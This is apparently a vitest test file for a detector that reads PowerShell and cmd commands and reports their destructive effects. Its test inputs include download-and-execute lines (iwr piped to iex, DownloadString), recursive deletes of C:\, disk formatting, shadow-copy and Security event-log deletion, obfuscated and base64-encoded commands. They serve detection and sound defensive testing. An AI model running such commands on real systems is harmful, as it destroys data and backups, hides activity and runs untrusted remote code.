import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { knownWords } from '../runners/shared/words.ts';
import { carriedBy, inOneLine } from '../runners/shared/test-carrier.ts';
import { carriedByDialect } from './dialect.ts';
import { WINDOWS } from './index.ts';

const read = (text: string, dialect: 'powershell' | 'cmd') =>
  carriedByDialect(text, dialect).map(inOneLine);

describe('PowerShell', () => {
  it.each<[string, readonly string[]]>([
    ['Remove-Item -Recurse -Force C:\\data', ['rm -rf -- /mnt/c/data']],
    ['Remove-Item -Path .\\src -Recurse', ['rm -rf -- ./src']],
    ['rm -r -fo build', ['rm -rf -- build']],
    ['ri notes.txt', ['rm -f -- notes.txt']],
    ['del a.txt, b.txt', ['rm -f -- a.txt', 'rm -f -- b.txt']],
    ['rd C:\\ -Recurse', ['rm -rf -- /']],
    ["$d = '/data'; Remove-Item $d -Recurse", ['rm -rf -- /data']],
    ['$d = "/data"\nRemove-Item "$d/x" -Recurse', ['rm -rf -- /data/x']],
    ['Remove-Item $env:USERPROFILE -Recurse', ['rm -rf -- ~']],
    ['R`emove-It`em x', ['rm -f -- x']],
    ["& 'Remove-Item' x", ['rm -f -- x']],
    ['& $x', ['unread']],
    ['Get-ChildItem C:\\data | Remove-Item -Recurse', ['rm -rf -- /mnt/c/data/*']],
    ['gci -Path logs -Filter *.log | ri', ['rm -f -- logs/*.log']],
    ['Get-ChildItem x | Where-Object { $_.Length -gt 1 } | Remove-Item -Force', ['rm -f -- x/*']],
    ['Clear-Content app.log', ['truncate -s 0 app.log']],
    ["Set-Content src/app.ts ''", ['tee src/app.ts']],
    ['Format-Volume -DriveLetter C', ['delete disk C irreversible']],
    ['Clear-Disk -Number 0 -RemoveData', ['delete disk 0 irreversible']],
    ['Stop-Computer -Force', ['update machine stop-computer costly']],
    ['Clear-EventLog -LogName Security', ['delete event-log Security irreversible']],
    [
      'Remove-AzResourceGroup -Name prod -Force',
      ['delete azurerm_resourcegroup prod irreversible'],
    ],
    ['Remove-ADUser -Identity ann', ['delete aduser ann unknown']],
    ['Invoke-Expression (Invoke-WebRequest https://x.io/a.ps1)', ['unread fetched']],
    ['iwr https://x.io/a.ps1 | iex', ['unread fetched']],
    ["iex ((New-Object Net.WebClient).DownloadString('https://x.io'))", ['unread fetched']],
    ["iex 'Remove-Item -Recurse /data'", ['rm -rf -- /data']],
    ['iex $x', ['unread']],
    [
      'Invoke-RestMethod -Method Delete https://api.acme.com/x',
      ['curl -X DELETE https://api.acme.com/x'],
    ],
    [
      "Start-Process terraform -ArgumentList 'destroy -auto-approve'",
      ['terraform destroy -auto-approve'],
    ],
    ['terraform destroy -auto-approve', ['terraform destroy -auto-approve']],
    ['git push --force; npm test', ['git push --force', 'npm test']],
    ['if (Test-Path x) { Remove-Item x -Recurse }', ['rm -rf -- x']],
    ['foreach ($f in $files) { Remove-Item /data/x }', ['rm -f -- /data/x']],
  ])('%s', (text, expected) => {
    expect(read(text, 'powershell')).toEqual(expected);
  });

  it.each([
    'Write-Host "Remove-Item -Recurse /"',
    '# Remove-Item x',
    '<# Remove-Item x #>',
    "'Remove-Item x'",
    'Remove-Item -Recurse x -WhatIf',
    'Get-ChildItem -Recurse | Select-Object Name',
    'Get-Process | Sort-Object CPU',
    '$x = 1 + 2',
    'Test-Path x',
    'Import-Module Az',
    'Remove-Variable x',
    'Invoke-WebRequest https://x.io -OutFile a.zip',
    'Get-AzResourceGroup',
    'Select-String -Pattern "rm -rf" *.md',
    'if ($x) { Write-Output 1 }',
    'New-Item -ItemType Directory build',
    'Set-Location src',
    'Clear-Host',
  ])('%s does no harm', (text) => {
    expect(read(text, 'powershell')).toEqual([]);
  });
});

describe('cmd', () => {
  it.each<[string, readonly string[]]>([
    ['del /s /q C:\\data', ['rm -rf -- /mnt/c/data']],
    ['del a.txt b.txt', ['rm -f -- a.txt', 'rm -f -- b.txt']],
    ['erase notes.txt', ['rm -f -- notes.txt']],
    ['rd /s /q build', ['rm -rf -- build']],
    ['rmdir build', ['rmdir -- build']],
    ['rd /s /q C:\\', ['rm -rf -- /']],
    ['d^el /q x', ['rm -f -- x']],
    ['set D=data\ndel /q %D%', ['rm -f -- data']],
    ['del /q %UNKNOWN%\\x', ['rm -f -- ?']],
    ['rd /s /q "%USERPROFILE%"', ['rm -rf -- ~']],
    ['echo a & del /q b', ['rm -f -- b']],
    ['cd x && rd /s /q y', ['rm -rf -- y']],
    ['format c: /y', ['delete disk c: irreversible']],
    ['diskpart /s x.txt', ['delete disk diskpart irreversible']],
    ['reg delete HKLM\\Software\\X /f', ['delete registry-key HKLM\\Software\\X irreversible']],
    ['vssadmin delete shadows /all', ['delete backup delete shadows /all irreversible']],
    ['wevtutil cl Security', ['delete event-log Security irreversible']],
    ['shutdown /s /t 0', ['update machine this machine costly']],
    ['for /r %i in (*.db) do del /q %i', ['rm -f -- ?']],
    ['if exist x rd /s /q x', ['rm -rf -- x']],
    ['terraform destroy', ['terraform destroy']],
    ['call git push --force', ['git push --force']],
  ])('%s', (text, expected) => {
    expect(read(text, 'cmd')).toEqual(expected);
  });

  it.each([
    'echo del /s /q C:\\',
    'rem del /q x',
    ':: del /q x',
    'dir /s',
    'type notes.txt',
    'del /?',
    'set X=del',
    'findstr "del" *.txt',
    'reg query HKLM\\Software',
    'cd src && dir',
    'mkdir build',
    'vssadmin list shadows',
  ])('%s does no harm', (text) => {
    expect(read(text, 'cmd')).toEqual([]);
  });
});

describe('shells of Windows', () => {
  const encoded = Buffer.from('Remove-Item x', 'utf16le').toString('base64');
  it.each<[string, readonly string[], readonly string[] | null]>([
    ['pwsh', ['-Command', 'Remove-Item x'], ['powershell Remove-Item x']],
    ['powershell', ['-NoProfile', '-c', 'Remove-Item', 'x'], ['powershell Remove-Item x']],
    ['powershell.exe', ['-EncodedCommand', encoded], ['powershell Remove-Item x']],
    ['pwsh', ['-ExecutionPolicy', 'Bypass', '-enc', encoded], ['powershell Remove-Item x']],
    ['pwsh', ['-File', 'a.ps1'], ['powershell Remove-Item y']],
    ['pwsh', ['./a.ps1'], ['powershell Remove-Item y']],
    ['pwsh', ['-File', 'missing.ps1'], null],
    ['pwsh', ['-Version'], []],
    ['cmd', ['/c', 'del', 'x'], ['cmd del x']],
    ['cmd', ['/C', 'rd /s /q x'], ['cmd rd /s /q x']],
    ['wsl', ['-e', 'rm', '-rf', 'x'], ['rm -rf x']],
    ['wsl', ['-d', 'Ubuntu', '--', 'rm', 'x'], ['rm x']],
    ['wsl', ['--list'], null],
  ])('%s %j', (program, args, expected) => {
    const given = { args: knownWords(...args), files: { '/work/app/a.ps1': 'Remove-Item y' } };
    expect(carriedBy(WINDOWS, program.replace('.exe', ''), given)).toEqual(expected);
  });

  it('reads any text without a fault', () => {
    const piece = fc.constantFrom(
      '(',
      ')',
      '{',
      '}',
      '$',
      '"',
      "'",
      '`',
      '|',
      ';',
      '&',
      '%',
      '^',
      ' ',
      '\n',
      'iex ',
      'rm ',
      '-r',
      '$x',
      '<#',
      '@(',
      '#',
    );
    fc.assert(
      fc.property(
        fc.array(fc.oneof(piece, fc.string({ maxLength: 4 })), { maxLength: 60 }),
        (parts) => {
          expect(Array.isArray(carriedByDialect(parts.join(''), 'powershell'))).toBe(true);
          expect(Array.isArray(carriedByDialect(parts.join(''), 'cmd'))).toBe(true);
        },
      ),
      { numRuns: 300, seed: 7 },
    );
  });

  it.each([
    '(',
    '{',
    '"',
    "'",
    '$x',
    'rm x;',
    '| ',
    '`',
    '%x',
    '^',
    'rm (',
    '$(',
    '<#',
    'if a ',
    'for do ',
  ])('200 kB of %s', (text) => {
    const long = text.repeat(Math.ceil(200_000 / text.length));
    // What grows with the square of the text takes minutes here: the test's own limit sees it.
    for (const dialect of ['powershell', 'cmd'] as const)
      expect(carriedByDialect(long, dialect).length).toBeLessThan(2_500);
  });
});
